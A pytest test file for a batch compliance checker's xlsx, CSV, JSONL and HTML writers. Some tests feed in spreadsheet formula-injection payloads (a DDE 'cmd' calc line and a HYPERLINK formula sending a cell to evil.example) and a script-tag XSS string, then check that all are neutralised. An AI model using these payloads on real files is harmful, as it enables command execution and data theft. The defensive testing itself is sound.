"""Every output: one record per input row, in input order, safe to open, atomic."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from collections import Counter
from pathlib import Path

import pytest
from openpyxl import load_workbook

from compliance.batch import chunks, runner
from compliance.batch.columns import build_columns
from compliance.batch.findings import ACTION_STATUSES
from compliance.batch.outcome import VERDICT_LABELS_ZH, VERDICTS, RowResult
from compliance.batch.readers import SourceRow, open_table
from compliance.batch.runner import Job, run_batch
from compliance.batch.summary import Summary
from compliance.batch.writers import Outputs, RunInfo
from compliance.batch.writers.common import RESULT_HEADERS
from compliance.batch.writers.xlsx import FILLS, XlsxWriter
from compliance.checker import Checker
from compliance.paths import rules_dir
from compliance.rulebook import load_rulebook
from tests.batch.conftest import HEADER, ROWS, last_line, run, write_csv

PINNED = [(index, verdict) for index, (_, verdict) in enumerate(ROWS) if verdict]
NAMES = [cells[0] for cells, _ in ROWS]
INFO = RunInfo("list.csv", "python", "test", "2024-01-01")


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small list checked once into every format."""
    folder = tmp_path_factory.mktemp("out")
    source = write_csv(folder / "list.csv", HEADER, [cells for cells, _ in ROWS])
    result = run("batch", source, "-o", folder / "r.xlsx", "-o", folder / "r.csv",
                 "-o", folder / "r.jsonl", "-o", folder / "r.html", "--workers", "1")
    assert result.exit_code == 1, result.stderr
    (folder / "summary.txt").write_text(last_line(result), encoding="utf-8")
    return folder


def verdicts(outputs: Path) -> list[str]:
    """Every row's verdict, from the JSONL output."""
    lines = (outputs / "r.jsonl").read_text("utf-8").splitlines()
    return [json.loads(line)["verdict"] for line in lines]


@pytest.mark.slow
def test_the_summary_line_counts_every_row(outputs: Path) -> None:
    counts = Counter(verdicts(outputs))
    assert counts["rejected"] == 2 and counts["error"] == 3
    parts = "，".join(f"{VERDICT_LABELS_ZH[v]} {counts[v]}" for v in VERDICTS)
    assert (outputs / "summary.txt").read_text("utf-8") == f"{len(ROWS)} 行：{parts}"


def test_xlsx_rows_in_input_order(outputs: Path) -> None:
    book = load_workbook(outputs / "r.xlsx")
    assert book.sheetnames == ["审查结果", "统计"]
    sheet = book["审查结果"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == [*HEADER, *RESULT_HEADERS]
    assert len(rows) == 1 + len(ROWS)
    assert [row[0] or "" for row in rows[1:]] == NAMES
    column = len(HEADER)
    assert [row[column] for row in rows[1:]] == [VERDICT_LABELS_ZH[v] for v in verdicts(outputs)]
    assert all(rows[1 + index][column] == VERDICT_LABELS_ZH[verdict] for index, verdict in PINNED)
    assert [row[-1] for row in rows[1:]] == list(range(2, 2 + len(ROWS)))
    assert sheet.freeze_panes == "A2"


def test_xlsx_cells_are_text_or_numbers_and_formulas_are_inert(outputs: Path) -> None:
    sheet = load_workbook(outputs / "r.xlsx")["审查结果"]
    types = {cell.data_type for row in sheet.iter_rows() for cell in row}
    assert types <= {"s", "inlineStr", "n"}  # text or number, never "f" (formula)
    remarks = [row[HEADER.index("备注")].value for row in sheet.iter_rows(min_row=2)]
    assert remarks[0] == "'=cmd|' /C calc'!A0"
    assert remarks[2] == "'+1" and remarks[6] == "'@SUM(A1)" and remarks[7] == "'-2"


def test_xlsx_verdict_cells_are_coloured(outputs: Path) -> None:
    sheet = load_workbook(outputs / "r.xlsx")["审查结果"]
    for row, verdict in zip(sheet.iter_rows(min_row=2), verdicts(outputs), strict=True):
        assert row[len(HEADER)].fill.fgColor.rgb == "FF" + FILLS[verdict]
    assert len(set(FILLS.values())) == len(FILLS)


def test_xlsx_statistics_add_up(outputs: Path) -> None:
    rows = list(load_workbook(outputs / "r.xlsx")["统计"].iter_rows(values_only=True))
    by_verdict = {row[0]: row[1] for row in rows[1:6]}
    counts = Counter(verdicts(outputs))
    assert by_verdict == {VERDICT_LABELS_ZH[v]: counts[v] for v in VERDICTS}
    assert rows[6][:2] == ("合计", 8)
    rules = {row[0]: row[4:6] for row in rows if row[0] and "/" in str(row[0])}
    assert rules["anyang-2019-19/coke-oven-4.3m"][0] == 1
    assert rules["miit-2017-178/no-capacity-expansion"][0] == 1
    start = next(index for index, row in enumerate(rows) if row[0] == "城市") + 1
    end = next(index for index, row in enumerate(rows[start:], start) if not row[0])
    assert sum(row[1] for row in rows[start:end]) == 8


def test_csv_has_bom_and_the_same_rows(outputs: Path) -> None:
    raw = (outputs / "r.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    assert rows[0] == [*HEADER, *RESULT_HEADERS]
    assert [row[0] for row in rows[1:]] == NAMES
    assert [row[len(HEADER)] for row in rows[1:]] == [
        VERDICT_LABELS_ZH[v] for v in verdicts(outputs)]
    assert rows[1][HEADER.index("备注")] == "'=cmd|' /C calc'!A0"


def test_jsonl_has_the_full_verdict_per_row(outputs: Path) -> None:
    lines = [json.loads(line) for line in (outputs / "r.jsonl").read_text("utf-8").splitlines()]
    assert [line["row"] for line in lines] == list(range(2, 2 + len(ROWS)))
    assert all(lines[index]["verdict"] == verdict for index, verdict in PINNED)
    checked = lines[0]
    assert checked["error"] is None and checked["project"] == NAMES[0]
    assert {"as_of", "ruleset_version", "engine", "results"} <= checked.keys()
    citation = next(r for r in checked["results"] if r["status"] == "fail")["citation"]
    assert citation["quote"] and citation["clause"]
    failed = lines[5]
    assert failed["error"].startswith("第 7 行「所在市」：未知城市「安洋」")
    assert lines[4]["error"] == "第 6 行：空行（没有任何内容）"


def test_html_is_self_contained_and_escaped(outputs: Path) -> None:
    html = (outputs / "r.html").read_text("utf-8")
    assert html.count("<svg") == 4
    assert "<script" not in html.lower()
    assert not re.search(r"https?://", html)
    assert not re.search(r"""(?:src|href)\s*=""", html)
    assert "安阳焦炉&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;b&gt;龙安&lt;/b&gt;焦炉" in html
    assert "在全市范围内" in html  # the quote of the failing clause
    assert (outputs / "summary.txt").read_text("utf-8") in html


@pytest.mark.slow
def test_a_crash_mid_write_leaves_no_output(tmp_path: Path, small_list: Path,
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    written = 0

    def failing_write(self: XlsxWriter, source: object, result: object) -> None:
        nonlocal written
        written += 1
        if written == 3:
            raise OSError("disk full")

    monkeypatch.setattr(XlsxWriter, "write", failing_write)
    table = open_table(small_list)
    job = Job("python", None, build_columns(table.header))
    targets = [tmp_path / "r.csv", tmp_path / "r.xlsx", tmp_path / "r.jsonl"]
    with pytest.raises(OSError, match="disk full"):
        run_batch(table.rows, job, Outputs(targets, list(table.header), INFO), workers=1)
    table.close()
    assert sorted(path.name for path in tmp_path.iterdir()) == ["list.csv"]


@pytest.mark.slow
def test_an_existing_output_survives_a_failed_run(tmp_path: Path, small_list: Path) -> None:
    target = tmp_path / "r.csv"
    target.write_text("old", encoding="utf-8")
    table = open_table(small_list)
    job = Job("python", None, build_columns(table.header))

    def interrupted():  # type: ignore[no-untyped-def]
        yield next(table.rows)
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        run_batch(interrupted(), job, Outputs([target], list(table.header), INFO), workers=1)
    table.close()
    assert target.read_text(encoding="utf-8") == "old"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["list.csv", "r.csv"]


@pytest.mark.slow
def test_header_cells_are_neutralised_like_data(tmp_path: Path) -> None:
    """A header is the list author's text too: no live formula in the xlsx, none in the csv."""
    evil = ['=HYPERLINK("http://evil.example/?"&A2;"点我")', "@cmd", "+1", "-x"]
    source = write_csv(tmp_path / "list.csv", [*HEADER, *evil],
                       [[*ROWS[0][0], *(["v"] * len(evil))]])
    result = run("batch", source, "-o", tmp_path / "r.xlsx", "-o", tmp_path / "r.csv")
    assert result.exit_code == 1, result.stderr
    expected = [*HEADER, *("'" + text for text in evil), *RESULT_HEADERS]
    header = next(load_workbook(tmp_path / "r.xlsx")["审查结果"].iter_rows(max_row=1))
    assert [cell.value for cell in header] == expected
    assert {cell.data_type for cell in header} == {"s"}
    rows = list(csv.reader((tmp_path / "r.csv").read_text("utf-8-sig").splitlines()))
    assert rows[0] == expected


@pytest.mark.slow
def test_jsonl_findings_keep_the_results_that_need_action(tmp_path: Path) -> None:
    source = write_csv(tmp_path / "list.csv", HEADER, [cells for cells, _ in ROWS])
    result = run("batch", source, "-o", tmp_path / "full.jsonl", "-o", tmp_path / "r.csv",
                 "--workers", "1")
    full = [json.loads(line) for line in (tmp_path / "full.jsonl").read_text("utf-8").splitlines()]
    result = run("batch", source, "-o", tmp_path / "brief.jsonl", "--jsonl-results", "findings",
                 "--workers", "1")
    assert result.exit_code == 1, result.stderr
    brief = [json.loads(line) for line in (tmp_path / "brief.jsonl").read_text("utf-8")
             .splitlines()]
    assert [line["row"] for line in brief] == [line["row"] for line in full]
    for whole, short in zip(full, brief, strict=True):
        assert short["verdict"] == whole["verdict"] and short["error"] == whole["error"]
        if whole["error"] is None:
            kept = [{**r, "what_if": []} for r in whole["results"] if r["status"] in ACTION_STATUSES]
            assert short["results"] == kept  # what_if is proven for full verdicts only
            assert sum(short["counts"].values()) == len(whole["results"])
    assert (tmp_path / "brief.jsonl").stat().st_size * 4 < (tmp_path / "full.jsonl").stat().st_size


def test_full_jsonl_rows_travel_in_small_chunks(small_list: Path,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """A chunk of 256 rows of whole verdicts (~20 MB) made JSONL workers twice as large."""
    sizes: list[int] = []
    chunked = chunks._chunks

    def recorded(rows: object, size: int) -> object:
        sizes.append(size)
        return chunked(rows, size)  # type: ignore[arg-type]

    monkeypatch.setattr(chunks, "_chunks", recorded)
    table = open_table(small_list)
    columns = build_columns(table.header)
    for job in (Job("python", None, columns, with_json=True),
                Job("python", None, columns, with_json=True, json_results="findings"),
                Job("python", None, columns)):
        list(runner.evaluate(iter([]), job, workers=2))
    table.close()
    assert sizes == [chunks.FULL_JSON_CHUNK_ROWS, chunks.CHUNK_ROWS, chunks.CHUNK_ROWS]
    assert chunks.FULL_JSON_CHUNK_ROWS <= 32


@pytest.mark.parametrize(("text", "cell"), [
    ("4.3", 4.3), ("150", 150), ("-2", -2), ("0.5", 0.5), ("0", 0),
    ("0123", "0123"), ("410522000000000000", "410522000000000000"), ("4.3米", "4.3米"),
    ("1e5", "1e5"), ("", None), ("4,300", "4,300")])
def test_the_workbook_types_plain_numbers_and_keeps_codes_as_text(text: str, cell: object) -> None:
    from compliance.batch.writers.xlsx import _typed
    assert _typed(text) == cell and type(_typed(text)) is type(cell)


def test_a_sheet_holds_no_more_hyperlinks_than_excel_keeps(tmp_path: Path,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    """Beyond Excel's 65,530 links a sheet, a row's report address is written as text."""
    from compliance.batch.outcome import RowResult
    from compliance.batch.readers import SourceRow
    from compliance.batch.summary import Summary
    from compliance.batch.writers import xlsx

    monkeypatch.setattr(xlsx, "MAX_LINKS", 2)
    writer = xlsx.XlsxWriter(tmp_path / "r.xlsx", ["项目名称"], "http://x/rows/")
    summary = Summary()
    for number in range(2, 6):
        result = RowResult(number, "compliant", project="甲")
        summary.add(result)
        writer.write(SourceRow(number, ["甲"]), result)
    writer.finish(summary)
    writer.commit()
    sheet = load_workbook(tmp_path / "r.xlsx")["审查结果"]
    links = [row[-1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.hyperlink.target for cell in links[:1]] == ["http://x/rows/2"]
    assert links[-1].hyperlink is None and links[-1].value == "http://x/rows/5"


def _written(writer: XlsxWriter, rows: int) -> Summary:
    summary = Summary()
    for number in range(2, 2 + rows):
        result = RowResult(number, "compliant", project=f"项目{number}")
        summary.add(result)
        writer.write(SourceRow(number, [f"项目{number}", "4.3"]), result)
    return summary


def test_a_list_longer_than_a_sheet_goes_on_in_the_next_with_the_header_again(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from compliance.batch.writers import xlsx

    monkeypatch.setattr(xlsx, "MAX_ROWS", 3)  # the header and two rows a sheet
    writer = XlsxWriter(tmp_path / "r.xlsx", ["项目名称", "焦炉炭化室高度"])
    writer.finish(_written(writer, 5))
    writer.commit()
    book = load_workbook(tmp_path / "r.xlsx")
    assert book.sheetnames == ["审查结果", "审查结果(2)", "审查结果(3)", "统计"]
    sheets = [book[name] for name in book.sheetnames[:3]]
    assert [[row[0] for row in sheet.iter_rows(values_only=True)] for sheet in sheets] == [
        ["项目名称", "项目2", "项目3"], ["项目名称", "项目4", "项目5"], ["项目名称", "项目6"]]
    assert [sheet.auto_filter.ref for sheet in sheets] == ["A1:H3", "A1:H3", "A1:H2"]
    assert sheets[2]["B2"].value == 4.3 and all(s.freeze_panes == "A2" for s in sheets)


def test_a_discarded_workbook_leaves_no_file_behind(tmp_path: Path) -> None:
    writer = XlsxWriter(tmp_path / "r.xlsx", ["项目名称", "焦炉炭化室高度"])
    _written(writer, 3)
    spooled = [Path(sheet.row_data_filename) for sheet in writer.book.worksheets()]
    assert spooled and all(path.exists() for path in spooled)
    writer.discard()
    assert not any(path.exists() for path in spooled)
    assert list(tmp_path.iterdir()) == []


def test_a_sheet_too_large_for_a_plain_zip_is_written_with_zip64(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A 1,000,000-row list failed at the very end: its sheet was over zip's 2 GB; here the
    limit is lowered so a small sheet is over it."""
    with monkeypatch.context() as lowered:
        lowered.setattr(zipfile, "ZIP64_LIMIT", 4096)
        writer = XlsxWriter(tmp_path / "r.xlsx", ["项目名称", "焦炉炭化室高度"])
        writer.finish(_written(writer, 300))
        writer.commit()
    rows = list(load_workbook(tmp_path / "r.xlsx")["审查结果"].iter_rows(values_only=True))
    assert len(rows) == 301 and rows[-1][0] == "项目301"


@pytest.mark.slow
def test_pool_workers_check_with_the_rulebook_the_parent_holds(small_list: Path,
                                                                tmp_path: Path) -> None:
    """Workers are sent the parent's rulebook (not reading the rule files again): a parent
    holding one document's rules gets rows checked against that document alone."""
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "anyang-2019-19.yaml").write_bytes((rules_dir() / "anyang-2019-19.yaml").read_bytes())
    checker = Checker(load_rulebook(rules), engine="python")
    table = open_table(small_list)
    job = Job("python", None, build_columns(table.header), with_json=True)
    results = [result for _, result in runner.evaluate(table.rows, job, 2, checker)]
    table.close()
    checker.close()
    checked = [json.loads(result.verdict_json) for result in results if result.verdict_json]
    assert len(checked) >= 2
    for verdict in checked:
        assert {result["rule_id"].split("/")[0] for result in verdict["results"]} == {
            "anyang-2019-19"}
        assert verdict["ruleset_version"] == checker.rulebook.version
